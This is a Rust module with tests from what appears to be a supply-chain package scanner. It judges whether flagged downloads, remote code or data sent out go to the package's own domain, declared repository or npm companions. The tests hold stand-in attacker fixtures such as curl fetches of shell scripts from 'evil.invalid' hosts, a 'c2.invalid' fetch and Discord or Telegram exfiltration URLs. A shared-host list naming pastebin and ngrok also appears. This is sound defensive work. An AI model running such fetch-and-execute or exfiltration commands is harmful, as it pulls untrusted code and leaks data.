//! What a package has from its own makers: programs from their domain or from the repository that it names, parts of
//! itself under its own name. What a package says that it does is a matter for a person; the rest is judged as it is.

use std::collections::HashSet;

use crate::analyze::script::{self, is_local, is_shared, is_vendor};
use crate::model::{Capability, FactKind, FileKind, Finding};
use crate::package::repository::{Repository, is_code_host};
use crate::package::{Member, Package, joined};

/// Shortest name of a package that its own can be told by.
const TELLING: usize = 5;

/// The rule of stores that are sent; a page's own are among them.
const STORES: &str = "flow-stores-sent";

/// How a page's own storage is called in evidence.
const OF_PAGE: &str = "the page's own storage";

/// What names say behind that of the maker: `maker-python-server-sdk`.
const COMMON: &[&str] = &[
    "api", "bindings", "cli", "client", "core", "driver", "js", "lib", "library", "native", "node", "nodejs",
    "official", "plugin", "py", "python", "python3", "sdk", "server", "tools", "ts", "wrapper",
];

/// By what a package's own is known.
#[derive(Debug, Default)]
pub(super) struct Own<'a> {
    /// Scope and name without separators: its makers may have registered them as a domain.
    names: Vec<String>,
    /// The repositories that it names as its own.
    repositories: Vec<Repository<'a>>,
    /// Name and version, of a package of npm.
    npm: Option<(&'a str, &'a str)>,
}

/// Whether a download is executed within an interpreter, and not by a shell that somebody sees.
fn is_evaluated(finding: &Finding) -> bool {
    const WITHIN: &[&str] = &["eval", "exec", "Function", "compile", "vm.", "require("];
    let note = finding.evidence.first().map_or("", |e| e.note.as_str());
    let note = note.strip_prefix("new ").unwrap_or(note);
    WITHIN.iter().any(|by| note.starts_with(by))
}

impl<'a> Own<'a> {
    pub(super) fn of(package: &'a Package<'_>) -> Self {
        let (name, homes) = match (package.npm, package.python) {
            (Some(npm), _) => (npm.name.as_str(), &npm.homes),
            (_, Some(python)) => (python.name.as_str(), &python.homes),
            _ => return Self::default(),
        };
        let parts = name.trim_start_matches('@').split('/');
        Self {
            names: parts.flat_map(names_in).filter(|part| part.len() >= TELLING).collect(),
            repositories: homes.iter().filter_map(|home| Repository::of(home)).collect(),
            npm: package.npm.map(|npm| (npm.name.as_str(), npm.version.as_str())),
        }
    }

    /// Whether what a finding tells was had from, or told to, the package's own makers.
    pub(super) fn is_meant(&self, finding: &Finding, member: &Member<'_>, by_itself: bool) -> bool {
        // Comments ask nobody for anything.
        let mentioned: HashSet<&str> = member
            .facts()
            .filter_map(|fact| match fact {
                FactKind::OnlyMentioned(host) => Some(&**host),
                _ => None,
            })
            .collect();
        let hosts: Vec<&str> = member
            .facts()
            .filter_map(|fact| match fact {
                FactKind::Has(Capability::Hosts, host) => Some(&**host),
                _ => None,
            })
            .filter(|host| !mentioned.contains(host))
            .collect();
        // What developers have their shells fetch and run is the commonest way to get a tool for a test.
        let is_shell = (member.is_command || member.analysis.kind == FileKind::Shell) && !is_evaluated(finding);
        // Nobody needs code of their own that comes anew whenever something is loaded or installed: it could be in the
        // package. A domain with a package's name is there for whoever wants it.
        let is_code = finding.rule.id == "flow-remote-code";
        (!is_code || is_shell || !by_itself) && self.is_from_domain(finding, &hosts)
            || (!is_code || is_shell) && self.is_from_repository(finding, &hosts, &member.path, by_itself)
    }

    /// Whether a finding is a page's own storage that goes to the makers of the package: how those who measure pages tell
    /// visitors apart.
    pub(super) fn is_measured(&self, finding: &Finding) -> bool {
        finding.rule.id == STORES
            && finding.evidence.iter().filter(|e| e.note.contains(" go to ")).all(|e| e.note.contains(OF_PAGE))
            && self.are_own(addresses_of(finding))
    }

    /// Whether a file sends a key to the service that the file is called by: its key is one that the service gives out.
    pub(super) fn is_key_of_service(finding: &Finding, member: &Member<'_>) -> bool {
        let stem = joined(member.base_name().split('.').next().unwrap_or_default());
        let mut addresses = addresses_of(finding).peekable();
        finding.rule.id == "flow-key-sent"
            && stem.len() >= TELLING
            && addresses.peek().is_some()
            && addresses.all(|address| registered(address).is_some_and(|(label, _)| joined(label) == stem))
    }

    /// Whether all addresses that a flow was followed from, or to, and all others in its file, are at the domain with one of
    /// the package's names: `opencode-ai` and `opencode.ai`. Nobody else can put anything there.
    fn is_from_domain(&self, finding: &Finding, others: &[&str]) -> bool {
        const SENT: &[&str] = &["flow-identity-sent", "flow-output-sent", "flow-cloud-key-sent"];
        let is_sent = SENT.contains(&finding.rule.id);
        if self.names.is_empty() || !is_sent && !matches!(finding.rule.id, "flow-download-run" | "flow-remote-code") {
            return false;
        }
        // Of what is sent it is told where to.
        let others = if is_sent { &[] } else { others };
        self.are_own(addresses_of(finding).chain(others.iter().copied().filter(|host| !is_local(host))))
            && addresses_of(finding).next().is_some()
    }

    /// Whether all addresses are at the domain that has one of the package's names, with its ending (`refine.dev` of
    /// `refinedev`) or without. Where anybody may leave something nothing is anybody's own, whatever a package is called.
    fn are_own<'f>(&self, addresses: impl Iterator<Item = &'f str>) -> bool {
        let mut addresses = addresses.peekable();
        let is_own = |part: &str| self.names.contains(&joined(part));
        addresses.peek().is_some()
            && addresses.all(|a| registered(a).is_some_and(|(label, domain)| is_own(label) || is_own(domain)))
    }

    /// Whether a download was followed from what a repository's owner put there: the one that the package names as its own
    /// or, when somebody has to call for it, any. The file reaches no host but those of source code and of the makers of
    /// languages. Code that is executed as it comes has to be of the same owner, and to be called for.
    fn is_from_repository(&self, finding: &Finding, others: &[&str], file: &str, by_itself: bool) -> bool {
        let only_reports = finding.rule.id == "flow-calls-home";
        let is_code = finding.rule.id == "flow-remote-code";
        let is_asked_for = is_code && !by_itself;
        if finding.rule.id != "flow-download-run" && !only_reports && !is_asked_for {
            return false;
        }
        let is_theirs = |address: &str| {
            Repository::of(address).filter(Repository::is_of_its_owner).is_some_and(|repository| {
                if is_code {
                    return self.repositories.iter().any(|own| own.is_of(&repository));
                }
                self.repositories.iter().any(|own| own.is(&repository)) || !by_itself && !only_reports
            }) || !is_code && !only_reports && self.is_own_on_registry(address, file)
        };
        // Of an address that is handed from function to function only the host is known, by the file that has no other.
        let addresses = || addresses_of(finding).filter(|address| !is_local(address));
        let has_address = addresses().next().is_some();
        let has_host =
            others.iter().any(|host| is_code_host(host)) && !self.repositories.is_empty() && !only_reports && !is_code;
        (has_address || has_host)
            && addresses().all(is_theirs)
            && others.iter().all(|host| is_code_host(host) || is_vendor(host) || is_local(host))
    }

    /// Whether an address is that of a package of npm with the own name in its own (`@scope/tool-linux-x64`), or with one that
    /// is put together: companions for one system each, which are published and looked at like any package.
    fn is_own_on_registry(&self, address: &str, file: &str) -> bool {
        let own = self.npm.map(|(name, _)| name);
        let address = address.split(['"', '\'', ' ']).next().unwrap_or_default();
        let Some(path) = address.strip_prefix("registry.npmjs.org/").filter(|path| path.ends_with(".tgz")) else {
            return false;
        };
        own.into_iter().chain(carried(file)).filter(|name| name.len() >= TELLING).any(|name| {
            let scope = name.split_once('/').map(|(scope, _)| format!("{scope}/"));
            let is_of_scope = scope.is_some_and(|scope| path.starts_with(&scope));
            // `@maker/tool-linux-x64` of `tool`.
            let of_maker = || path.strip_prefix('@')?.split_once('/')?.1.strip_prefix(name);
            let rest = path.strip_prefix(name).or_else(|| path.strip_prefix('@')?.strip_prefix(name)).or_else(of_maker);
            let is_any = own.is_some() && path.starts_with("\u{2026}/-/\u{2026}");
            is_of_scope || rest.is_some_and(|rest| rest.starts_with(['/', '-'])) || is_any
        })
    }

    /// Whether what a package manager is told to install is of the package's own name (`@scope/tool-linux-x64`, for
    /// `@scope/tool`), or of its own version under a name that was put together.
    pub(super) fn is_installed(&self, finding: &Finding) -> bool {
        let Some((name, version)) = self.npm.filter(|_| finding.rule.id == "flow-installs-other") else { return false };
        let mut words =
            finding.evidence.iter().flat_map(|e| e.note.split("install").skip(1)).flat_map(str::split_whitespace);
        let is_own = |word: &str| {
            let word = word.trim_matches(['"', '\'']);
            !version.is_empty() && word.strip_prefix("\u{2026}@") == Some(version)
                || word.strip_prefix(name).is_some_and(|rest| rest.is_empty() || rest.starts_with(['-', '@']))
        };
        name.len() >= TELLING && words.clone().any(is_own) && words.all(|w| w.starts_with('-') || is_own(w))
    }
}

/// The name of a package that another one carries along, by the way to one of its files. Builders of sites put what stands
/// for a version behind it (`node_modules/esbuild-413dcd3c3fdcb16d/install.js`).
fn carried(path: &str) -> Option<&str> {
    let (_, rest) = path.rsplit_once("/node_modules/")?;
    let end = rest.match_indices('/').nth(usize::from(rest.starts_with('@')))?.0;
    let name = rest.get(..end)?;
    let bare = name.rsplit_once('-').filter(|(_, hash)| hash.len() >= 8 && hash.bytes().all(|b| b.is_ascii_hexdigit()));
    Some(bare.map_or(name, |(name, _)| name))
}

/// First words of names, and of hosts at which anybody may have something (`storage.googleapis.com`).
const ANYBODYS: &str = "storage cloud static files assets download downloads release releases images media public content \
    bucket pages hosting server proxy cache worker workers github gitlab bitbucket discord telegram slack google amazon azure \
    dropbox vercel netlify heroku firebase cloudflare digitalocean render railway ngrok pastebin replit glitch";

/// A name without separators, without its common words, and by its first word: makers call their parts after themselves.
fn names_in(part: &str) -> [String; 3] {
    let first = part.split(['-', '_', '.']).next().unwrap_or_default();
    let is_anybodys = ANYBODYS.split_whitespace().any(|word| first.eq_ignore_ascii_case(word));
    [joined(part), makers(part), if is_anybodys { String::new() } else { joined(first) }]
}

/// The words of a name before those that only say what sort of thing it is.
fn makers(name: &str) -> String {
    let mut words: Vec<&str> = name.split(['-', '_', '.']).collect();
    while words.last().is_some_and(|w| COMMON.contains(&w.to_ascii_lowercase().as_str())) {
        words.pop();
    }
    words.iter().copied().map(joined).collect()
}

/// The addresses in the evidence of a finding, from behind their schemes.
fn addresses_of(finding: &Finding) -> impl Iterator<Item = &str> {
    finding.evidence.iter().flat_map(|e| e.note.split("://").skip(1))
}

/// The label that somebody has registered, and the domain that it begins: `inert` and `inert.co.uk` of `get.inert.co.uk`.
/// `None` where many have what lies there.
fn registered(address: &str) -> Option<(&str, &str)> {
    let host = host_of(address);
    let place = address.split([' ', '"', '\'']).next().unwrap_or(address);
    script::registered(host).filter(|_| !is_code_host(host) && !is_shared(place))
}

fn host_of(address: &str) -> &str {
    address.split(['/', '?', '#', ' ', '"', '\'', ':']).next().unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::super::chains::CHAINS;
    use super::*;
    use crate::model::{Evidence, Rule};

    fn finding(id: &'static str, notes: &[&str]) -> Finding {
        let rule: &'static Rule = Box::leak(Box::new(Rule { id, ..CHAINS[0].rule.clone() }));
        let mut finding = rule.finding(Evidence::note(""));
        finding.evidence = notes.iter().map(|n| Evidence::note(*n)).collect();
        finding
    }

    #[test]
    fn code_that_is_evaluated_is_nobody_s_own_and_what_a_shell_runs_may_be() {
        assert!(is_evaluated(&finding("flow-remote-code", &["eval executes a download"])));
        assert!(is_evaluated(&finding("flow-remote-code", &["new Function executes a download"])));
        assert!(!is_evaluated(&finding("flow-remote-code", &["bash executes a download"])));
    }

    #[test]
    fn a_domain_is_one_s_own_by_the_label_that_is_registered() {
        let own = Own { names: vec!["inertai".to_owned(), "inert".to_owned()], ..Own::default() };
        let is = |notes: &[&str]| {
            let finding = finding("flow-remote-code", notes);
            own.is_from_domain(&finding, &["localhost"]) && !own.is_from_domain(&finding, &["h.invalid"])
        };
        assert!(is(&["curl https://inert.invalid/i.sh"]) && is(&["curl https://get.inert.co.uk/i.sh", "bash"]));
        assert!(is(&["curl https://inert.ai/i.sh"]) && is(&["curl https://get.inert.top/i.sh"]));
        // What is named after a service of many is not its maker.
        for (name, address) in [
            ("discord", "fetch https://discord.com/api/webhooks/1/x"),
            ("telegram", "fetch https://api.telegram.org/bot1/x"),
            ("vercel", "fetch https://inert.vercel.app/x"),
            ("github", "curl https://github.com/inert/tool/x"),
        ] {
            let own = Own { names: vec![name.to_owned()], ..Own::default() };
            assert!(!own.is_from_domain(&finding("flow-identity-sent", &[address]), &[]), "{address}");
        }
        let scope = Own { names: vec!["inertdev".to_owned()], ..Own::default() };
        let sent = |to: &str| scope.is_from_domain(&finding("flow-output-sent", &[to]), &["other.invalid"]);
        assert!(sent("fetch https://telemetry.inert.dev/cli") && !sent("fetch https://inert.dev.evil.invalid/cli"));
        assert!(!is(&["curl https://inert.evil.invalid/i.sh"]) && !is(&["curl https://xinert.invalid/i.sh"]));
        assert!(!is(&["curl https://inert.invalid/i", "wget https://other.invalid/i"]) && !is(&["curl"]));
    }

    #[test]
    fn what_pages_keep_is_told_to_those_who_measure_them() {
        let own = Own { names: vec!["inertinsight".to_owned()], ..Own::default() };
        let is = |note: &str| own.is_measured(&finding(STORES, &[note]));
        let to = "go to fetch \"https://app.inertinsight.com/track\"";
        assert!(is(&format!("a browser's stores, {OF_PAGE} {to}")));
        assert!(!is(&format!("a browser's stores {to}")), "of all pages");
        assert!(!is(&format!("a browser's stores, {OF_PAGE} go to fetch \"https://c2.invalid/x\"")));
    }

    #[test]
    fn makers_stand_before_what_they_make() {
        for (name, maker) in [
            ("inert_python_server_sdk", "inert"),
            ("inert-sdk", "inert"),
            ("inert-labs.client", "inertlabs"),
            ("inert", "inert"),
            ("python-inert", "pythoninert"),
            ("python-sdk", ""),
        ] {
            assert_eq!(makers(name), maker, "{name}");
        }
        assert_eq!(names_in("inert-proxy-network"), ["inertproxynetwork", "inertproxynetwork", "inert"]);
        assert_eq!(names_in("storage-inert"), ["storageinert", "storageinert", ""]);
    }

    #[test]
    fn releases_of_the_declared_repository_are_one_s_own() {
        let home = "git+https://github.com/Inert/Tool.git#readme";
        let own = Own { repositories: vec![Repository::of(home).unwrap()], ..Own::default() };
        let met = |id: &'static str, notes: &[&str], by_itself: bool, others: &[&str]| {
            own.is_from_repository(&finding(id, notes), others, "package/install.js", by_itself)
        };
        let release = "https.get https://github.com/inert/tool/releases/download/v\u{2026}/tool.zip";
        let of_others = "https.get https://api.github.com/repos/other/tool/releases/latest";
        assert!(met("flow-download-run", &["starts it", release], true, &["github.com", "127.0.0.1", "rustup.rs"]));
        assert!(met("flow-calls-home", &[release], true, &[]));
        // Of another project only when somebody calls for it, and never as code that is executed or with another host at hand.
        assert!(
            !met("flow-download-run", &[of_others], true, &[]) && met("flow-download-run", &[of_others], false, &[])
        );
        assert!(!met("flow-download-run", &[release, of_others], true, &[]));
        assert!(!met("flow-calls-home", &[of_others], false, &[]) && !met("flow-remote-code", &[release], true, &[]));
        let raw = "curl https://raw.githubusercontent.com/inert/harness/main/run.sh";
        assert!(met("flow-remote-code", &[raw], false, &["raw.githubusercontent.com"]));
        assert!(!met("flow-remote-code", &[raw], true, &[]) && !met("flow-remote-code", &[of_others], false, &[]));
        assert!(!met("flow-remote-code", &["x"], false, &["github.com"]));
        assert!(met("flow-download-run", &["x"], true, &["github.com"]));
        assert!(!met("flow-download-run", &["x"], true, &["github.com", "h.invalid"]));
        assert!(
            !met("flow-download-run", &[release], true, &["h.invalid"]) && !met("flow-download-run", &["x"], true, &[])
        );
        assert!(!met("flow-download-run", &["https://github.com.evil.invalid/inert/tool/x"], true, &[]));
        let of_npm = Own { npm: Some(("inert", "1.0.0")), ..Own::default() };
        let met_in = |path: &str, file: &str| {
            let note = format!("https.get \"https://registry.npmjs.org/{path}\"");
            of_npm.is_from_repository(&finding("flow-download-run", &[&note]), &["registry.npmjs.org"], file, true)
        };
        let met_on = |path: &str| met_in(path, "package/install.js");
        for path in [
            "@inert/linux-x64/-/linux-x64-1.tgz",
            "@makers/inert-linux-x64/-/inert-linux-x64-1.tgz",
            "inert-linux/-/inert-linux-1.tgz",
            "\u{2026}/-/\u{2026}-1.0.0.tgz",
        ] {
            assert!(met_on(path), "{path}");
        }
        // What is carried along has its own, too.
        let builder = "@builder/linux-x64/-/linux-x64-1.tgz";
        assert!(met_in(builder, "package/.next/node_modules/builder-413dcd3c3fdcb16d/install.js") && !met_on(builder));
        assert!(!met_in(builder, "package/node_modules/other/builder/install.js"));
        for path in [
            "other/-/other-1.0.0.tgz",
            "inertia/-/inertia-1.tgz",
            "@makers/other/-/inert-1.tgz",
            "inert-linux",
            "\u{2026}",
        ] {
            assert!(!met_on(path), "{path}");
        }
        assert!(!met("flow-download-run", &["https://h.invalid/github.com/inert/tool/x"], true, &[]));
        // Anybody may lay a file beside an issue.
        assert!(!met("flow-download-run", &["https://github.com/inert/tool/files/1/tool.zip"], true, &[]));
    }

    #[test]
    fn parts_of_a_package_have_its_name_or_its_version() {
        let own = Own { npm: Some(("@inert/tool", "1.2.0")), ..Own::default() };
        let is = |note: &str| own.is_installed(&finding("flow-installs-other", &[note]));
        assert!(is("execSync \"npm install --no-save @inert/tool-linux-x64\""));
        assert!(
            is("execSync \"npm install --no-audit \u{2026}@1.2.0\"") && !is("execSync \"npm install \u{2026}@1.3.0\"")
        );
        assert!(
            !is("execSync \"npm install @inert/tool-linux-x64 left-pad\"")
                && !is("execSync \"npm install @inert/toolbox\"")
        );
        assert!(!is("execSync \"npm install\""));
    }
}
